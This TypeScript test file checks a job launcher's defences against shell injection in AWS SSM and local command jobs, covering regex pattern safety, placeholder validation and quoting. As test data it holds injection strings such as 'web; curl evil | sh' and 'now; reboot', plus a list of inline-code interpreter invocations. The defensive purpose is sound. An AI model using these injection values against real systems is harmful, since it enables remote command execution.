import { describe, expect, it } from 'vitest';
import { mockClient } from 'aws-sdk-client-mock';
import { PutParameterCommand, SSMClient, SendCommandCommand } from '@aws-sdk/client-ssm';
import { patternAdmitsOnlySafe } from '../../../backend/core/shellSafety';
import { anchored } from '../../../backend/core/params';
import { jobDefinitionSchema } from '../../../backend/core/job';
import { parseJobsFile } from '../../../backend/adapters/catalog/fileCatalog';
import { pushJobs } from '../../../backend/cli/jobCatalogAdmin';
import { documentParameters, createSsmCommandLauncher } from '../../../backend/adapters/launcher/aws/ssmCommandLauncher';

/** Issue 11 §4: launch inputs that cannot become code. */

describe('a pattern is shell-safe only when every string it matches is', () => {
  // Each unsafe pattern comes with a string it matches that carries shell syntax: the refusal is earned.
  it.each([
    ['.+', 'a;b'],
    ['[^x]+', 'a;b'],
    ['\\S+', 'a;b'],
    ['[a-z]+(;[a-z]+)?', 'a;b'],
    ['[+-=]+', ';'], // a range that spans `;` and `<`
    ['[a-z ]+', 'rm rf'],
    ['\\p{L}+', 'aé'],
    ['[\\w$]+', '$HOME'],
    ['a|\\x3b', ';'],
    ['[a-z]+\\u0060', 'a`'],
    ['[a-z\\s]+', 'a\nb'],
    ['\\W', ';'],
    ['(?:[a-z]|[^a-z])+', 'a|b'],
  ])('%s is refused (it matches %j)', (pattern, witness) => {
    expect(anchored(pattern).test(witness)).toBe(true);
    expect(patternAdmitsOnlySafe(pattern)).toBe(false);
  });

  it.each(['[a-z0-9-]{1,63}', '20[0-9]{2}-(0[1-9]|1[0-2])', '\\d+', '\\w+', 'v[0-9]+\\.[0-9]+', '(prod|staging)', '[A-Za-z0-9_.:/+=-]+', '(a)\\1', '(?=a)a'])('%s is safe', (pattern) => {
    expect(patternAdmitsOnlySafe(pattern)).toBe(true);
  });

  it('an unparseable pattern is not safe', () => {
    expect(patternAdmitsOnlySafe('[a-')).toBe(false);
  });
});

const base = { name: 'patch', title: 'Patch', allow: { roles: ['admin'] } };
const ssmJob = (params: unknown[], commands = ['./patch.sh {{x}}']) => ({
  ...base,
  type: 'ssm-command',
  params,
  target: { documentName: 'AWS-RunShellScript', instanceIds: ['i-0123456789abcdef0'], parameters: { commands } },
});
const reasonOf = (job: unknown) => {
  const r = jobDefinitionSchema.safeParse(job);
  return r.success ? undefined : r.error.issues.map((i) => i.message).join('; ');
};

describe('job validation: placeholders that reach a shell', () => {
  it.each([
    [{ name: 'x', type: 'string' }, /without a pattern/],
    [{ name: 'x', type: 'string', pattern: '.*' }, /pattern admits/],
    [{ name: 'x', type: 'string', pattern: '[a-z]+(;[a-z]+)?' }, /pattern admits/],
    [{ name: 'x', type: 'enum', values: ['now', 'now; reboot'] }, /enum value "now; reboot"/],
  ])('SSM: %o is refused', (param, reason) => {
    expect(reasonOf(ssmJob([param]))).toMatch(reason);
  });

  it.each([
    [{ name: 'x', type: 'integer' }],
    [{ name: 'x', type: 'boolean' }],
    [{ name: 'x', type: 'number' }],
    [{ name: 'x', type: 'enum', values: ['now', 'tonight'] }],
    [{ name: 'x', type: 'string', pattern: '[a-z0-9-]{1,63}' }],
  ])('SSM: %o is accepted', (param) => {
    expect(reasonOf(ssmJob([param]))).toBeUndefined();
  });

  it('SSM: the rule holds for every document, not only AWS-RunShellScript (a custom one may paste into a shell)', () => {
    const job = ssmJob([{ name: 'x', type: 'string' }]);
    expect(reasonOf({ ...job, target: { ...job.target, documentName: 'MyOrg-Patch', parameters: { host: ['{{x}}'] } } })).toMatch(/without a pattern/);
  });

  const local = (argv: string[], params: unknown[] = [{ name: 'x', type: 'string' }]) => ({ ...base, type: 'local', params, target: { argv } });
  it.each([
    [['sh', '-c', 'echo {{x}}']],
    [['/bin/bash', '-c', 'deploy --to {{x}}']],
    [['node', '-e', 'run("{{x}}")']],
    [['pwsh', '-Command', 'Write-Output {{x}}']],
    [['C:\\Windows\\System32\\cmd.exe', '/c', 'echo {{x}}']],
    [['ssh', 'host', 'restart', '{{x}}']],
    // From an attacker's review: inline code behind flags the first rule did not know.
    [['bash', '-lc', 'echo hello {{x}}']],
    [['sh', '-xc', 'echo {{x}}']],
    [['/bin/bash', '-euc', 'echo {{x}}']],
    [['node', '-p', '"{{x}}"']],
    [['node', '-pe', '"{{x}}"']],
    [['python3.11', '-c', 'print("{{x}}")']],
    [['perl', '-lne', 'print "{{x}}"']],
    [['php', '-r', 'echo "{{x}}";']],
    [['watch', '-n1', 'echo {{x}}']],
    [['powershell.exe', 'Write-Output {{x}}']],
    [['pwsh', '-Comm', 'Write-Output {{x}}']],
    [['pwsh', '-Command', 'Write-Output', '{{x}}']],
    [['awk', '{ print "{{x}}" }']],
    [['/usr/bin/env', 'bash', '-c', 'echo {{x}}']],
    [['sudo', '-u', 'deploy', 'sh', '-c', 'echo {{x}}']],
    [['tool', '--eval={{x}}']],
  ])('local: a free-text placeholder in code (%j) is refused', (argv) => {
    expect(reasonOf(local(argv))).toMatch(/reaches a shell/);
  });

  it('local: a free-text placeholder as its own argument (argv, no shell) is fine', () => {
    expect(reasonOf(local(['/usr/bin/printf', '%s\\n', '{{x}}']))).toBeUndefined();
    expect(reasonOf(local(['sh', '-c', 'echo "$1"', 'sh', '{{x}}']))).toBeUndefined();
    expect(reasonOf(local(['node', 'jobs/examples/hello.mjs', '{{x}}']))).toBeUndefined();
    expect(reasonOf(local(['python3', 'report.py', '--month', '{{x}}']))).toBeUndefined();
    expect(reasonOf(local(['bash', '-l', 'deploy.sh', '{{x}}']))).toBeUndefined();
  });

  it('local: a safe parameter in code is fine', () => {
    expect(reasonOf(local(['sh', '-c', 'echo {{x}}'], [{ name: 'x', type: 'string', pattern: '[a-z]+' }]))).toBeUndefined();
  });
});

describe('an unsafe or broken job is listed unavailable and refused by push', () => {
  const ssm = mockClient(SSMClient);
  const yaml = (params: string) => `jobs:
  - name: patch
    title: Patch
    type: ssm-command
    allow: { roles: [admin] }
    target: { documentName: AWS-RunShellScript, instanceIds: [i-0123456789abcdef0], parameters: { commands: ["./patch.sh {{x}}"] } }
    params: [${params}]
`;

  it.each([
    ['a free-text placeholder in a shell document', '{ name: x, type: string }', /reaches a shell/],
    ['a pattern that is not a regular expression', '{ name: x, type: string, pattern: "[a-" }', /not a valid regular expression/],
    ['a pattern that escapes its anchoring', '{ name: x, type: string, pattern: "[a-z0-9.-]+)|(" }', /not a valid regular expression/],
  ])('%s', async (_, params, reason) => {
    const [entry] = parseJobsFile(yaml(params));
    expect(entry).toMatchObject({ name: 'patch', available: false, reason: expect.stringMatching(reason) });
    ssm.reset();
    const pushed = await pushJobs({ client: new SSMClient({}), prefix: '/kl', text: yaml(params) });
    expect(pushed.ok).toBe(false);
    expect(pushed.lines.join('\n')).toMatch(reason);
    expect(ssm.commandCalls(PutParameterCommand)).toHaveLength(0);
  });
});

describe('SSM shell documents: values are quoted as well', () => {
  it('AWS-RunShellScript quotes for POSIX sh, AWS-RunPowerShellScript for PowerShell, other documents get the bare value', () => {
    const values = { x: "it's" }; // not a value validation lets through; quoting must still hold
    expect(documentParameters('AWS-RunShellScript', { commands: ['echo {{x}}'] }, values)).toEqual({ commands: ["echo 'it'\\''s'"] });
    expect(documentParameters('arn:aws:ssm:eu-west-1::document/AWS-RunPowerShellScript', { commands: ['echo {{x}}'] }, values)).toEqual({ commands: ["echo 'it''s'"] });
    expect(documentParameters('MyOrg-Patch', { window: ['{{x}}'] }, { x: 'tonight' })).toEqual({ window: ['tonight'] });
  });

  it('an injection attempt never reaches SendCommand: the value fails the job pattern first', async () => {
    const job = jobDefinitionSchema.parse(ssmJob([{ name: 'x', type: 'string', pattern: '[a-z0-9-]{1,63}' }]));
    expect(anchored('[a-z0-9-]{1,63}').test('web; curl evil | sh')).toBe(false);
    const ssm = mockClient(SSMClient);
    ssm.on(SendCommandCommand).resolves({ Command: { CommandId: 'c1', Status: 'Pending' } });
    await createSsmCommandLauncher({ client: new SSMClient({}), region: 'eu-west-1' }).launch({ runId: 'r', job, params: { x: 'web-1' }, secrets: {}, requestedBy: 'a', configVersions: {} });
    expect(ssm.commandCalls(SendCommandCommand)[0]!.args[0].input.Parameters).toEqual({ commands: ["./patch.sh 'web-1'"] });
  });
});
